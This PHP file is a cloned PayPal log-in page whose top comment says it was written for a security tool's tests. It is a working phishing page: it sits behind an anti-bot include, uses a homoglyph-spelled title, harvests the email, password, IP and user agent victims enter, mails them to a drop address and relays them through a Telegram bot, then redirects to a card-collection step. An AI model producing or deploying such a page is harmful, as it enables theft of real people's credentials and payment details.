<?php
// Written for breachkit's tests: a cloned sign-in page as PHP, posting to itself,
// behind its kit's anti-bot filter, mailing and relaying what victims type.
session_start();
include __DIR__ . '/prevents/antibot.php';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $ip = $_SERVER['REMOTE_ADDR'];
    $rez  = "+----- PP Login -----+\n";
    $rez .= "Email    : " . $_POST['login_email'] . "\n";
    $rez .= "Password : " . $_POST['login_password'] . "\n";
    $rez .= "IP       : " . $ip . " | " . $_SERVER['HTTP_USER_AGENT'] . "\n";
    mail('rezult.box@example.net', "PP Login | $ip", $rez);
    @file_get_contents('https://api.telegram.org/bot' . '6012:AAH-x' . '/sendMessage?chat_id=-1001&text=' . urlencode($rez));
    header('Location: card.php?session=' . md5(session_id()));
    exit;
}
?>
<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<title>&#x50;&#x61;y&#x50;аl: Log in to your account</title>
<link rel="icon" href="img/pp_favicon_x.ico">
</head>
<body>
<section id="login"><header><p class="paypal-logo"></p></header>
<form method="post" class="proceed maskable" autocomplete="off" novalidate>
  <input id="email" name="login_email" type="email" placeholder="Email or mobile number">
  <input id="password" name="login_password" type="password" placeholder="Password">
  <button class="button actionContinue" type="submit" id="btnLogin">Log In</button>
</form>
</section>
</body>
</html>
